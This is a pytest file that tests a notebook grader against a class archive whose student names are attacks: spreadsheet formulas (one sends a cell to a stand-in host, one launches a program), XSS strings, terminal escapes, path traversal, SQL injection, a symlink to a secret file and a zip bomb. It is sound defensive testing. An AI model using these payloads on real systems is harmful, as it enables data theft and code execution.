"""A class whose names and archive are attacks on the grader itself: on disk, table, page, terminal.

The grader here is trusted and its answers are made up: what is tested is what becomes of names.
"""

import csv
import html
import io
import re
import stat
import unicodedata
import zipfile

import pytest
from checkout import ATTACKS

from nnbook.grading.grade.one_submission import Graded
from nnbook.grading.gradebook.gradebook import Gradebook
from nnbook.grading.gradebook.verdict import Verdict
from nnbook.grading.run.batch import grade_class
from nnbook.grading.run.plan import GradedTask, GradingPlan
from nnbook.notebook.submission import SIZE_LIMIT

SECRET = "nobody may read this"

# What each tries stands beside it.
NAMES = {
    "=HYPERLINK(\"http://x.y/?\"&A1,\"go\")": "a formula that sends a cell away",
    "+1+cmd|' /C calc'!A0": "a formula that starts a program",
    "-2+3": "a formula that begins like a number",
    "@SUM(A1)": "a formula of another spreadsheet",
    "\t=1+1": "a formula behind a tab",
    "<script>alert(1)</script>": "a script",
    "\"><img src=x onerror=alert(1)>": "the end of an attribute",
    "\x1b[2J\x1b[31mred": "commands for a terminal",
    "\x1b]0;title\x07": "a title for a terminal",
    "\u202egnp.exe": "a writing direction",
    "a\u200bb": "a name that looks like another",
    "ab": "the other",
    "Ann": "a folder that is the next on some disks",
    "ann": "the one before",
    "CON": "a device on Windows",
    "..": "the folder above",
    "../../eve": "two folders above",
    "/etc/cron.d": "an absolute place",
    "C:\\Windows": "a place on Windows",
    "~root": "a home folder",
    "a" * 300: "a name too long for a disk",
    "line\nbreak,\"quoted\"": "a line of its own in the table",
    "'; DROP TABLE submissions; --": "a statement for the gradebook",
    "{0}{secret}": "a format",
    "naïve 名前": "a name as good as any",
}  # fmt: skip


def grader(tasks, keys):
    for task in tasks:
        verdict = Verdict("double", 1.0, 2.0, "partly", f"For {len(task.data)} bytes.")
        yield GradedTask(task, Graded((verdict,)))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class, handed in as one zip file, and what the grader said meanwhile."""
    place = tmp_path_factory.mktemp("course")
    outside = place / "secret.ipynb"
    outside.write_text(SECRET)
    path = place / "class.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, name in enumerate(NAMES):
            member = zipfile.ZipInfo("x")
            member.filename = f"{name}/01_target.ipynb"
            archive.writestr(member, f'{{"cells": [], "number": {number}}}')
        link = zipfile.ZipInfo("linked/01_target.ipynb")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(outside))
        with archive.open("bomb/01_target.ipynb", "w") as bomb:
            for _ in range(60):
                bomb.write(bytes(1_000_000))
    said = io.StringIO()
    plan = GradingPlan(path, ATTACKS / "solutions", place / "results" / "grades")
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("sys.stderr", said)
        grade_class(plan, grader)
    return place, plan.out, said.getvalue()


def test_every_file_lies_where_results_go(graded):
    """Nothing above, nothing absolute, nothing that links; names that every disk takes."""
    place, out, _ = graded
    assert sorted(path.name for path in place.iterdir()) == ["class.zip", "results", "secret.ipynb"]
    assert [path.name for path in (place / "results").iterdir()] == ["grades"]
    folders = [path.name for path in (out / "feedback").iterdir()]
    assert len({name.casefold() for name in folders}) == len(folders)
    assert len(folders) == len(NAMES) + 2 - 1  # two more are in the archive; ".." is nobody
    for path in out.rglob("*"):
        assert not path.is_symlink()
        assert path.resolve().is_relative_to(out.resolve())
    for name in folders:
        assert not re.search(r'[<>:"/\\|?*\x00-\x1f]', name)
        assert not re.fullmatch(r"(?i)(con|nul|aux|prn)(\..*)?", name)
        assert not name.endswith((".", " "))
        assert len(name.encode()) < 255


def test_the_table_holds_no_formula(graded):
    """Read back, no cell begins as a formula does, not even behind blanks."""
    _, out, _ = graded
    text = (out / "grades.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert {len(row) for row in rows} == {7}
    for row in rows:
        for cell in row:
            try:
                float(cell)
            except ValueError:
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
            assert not {c for c in cell if unicodedata.category(c) in ("Cc", "Cf")}, cell


def test_pages_show_names_as_text(graded):
    """No markup comes from a name, and none turns the line round."""
    _, out, _ = graded
    pages = [out / "summary.html", *out.glob("feedback/*/*.html")]
    for page in pages:
        markup = page.read_text("utf-8")
        assert "<script" not in markup
        assert "<img" not in markup
        assert not {c for c in markup if unicodedata.category(c) in ("Cc", "Cf")} - {"\n"}
    names = [
        html.unescape(re.search("<bdi>(.*?)</bdi>", p.read_text("utf-8"))[1]) for p in pages[1:]
    ]
    assert "<script>alert(1)</script>" not in names  # a path's last part is the student's name
    assert any("alert(1)" in name for name in names)
    assert "naïve 名前" in names


def test_the_terminal_gets_plain_lines(graded):
    """No control character, no direction; what needs a person is said."""
    *_, said = graded
    assert said
    assert not {c for c in said if unicodedata.category(c)[0] == "C"} - {"\n"}


def test_the_gradebook_took_every_name_literally(graded):
    """A statement is a name, and its table is still there."""
    _, out, _ = graded
    with Gradebook(out / "grades.db") as book:
        students = {entry.student for entry in book.entries()}
    assert "'; DROP TABLE submissions; --" in students
    assert {"Ann", "ann", "{0}{secret}"} <= students


def test_links_and_bombs_are_not_read(graded):
    """A link is said to be one; of sixty megabytes no more than the limit is unpacked."""
    _, out, _ = graded
    with Gradebook(out / "grades.db") as book:
        told = {entry.student: entry.verdict for entry in book.entries()}
    assert SECRET not in "".join(page.read_text("utf-8") for page in out.rglob("*.html"))
    assert told["linked"].verdict == "unread"
    assert "link to another file" in told["linked"].detail
    assert told["bomb"].detail == f"For {SIZE_LIMIT + 1} bytes."  # which is too large to grade
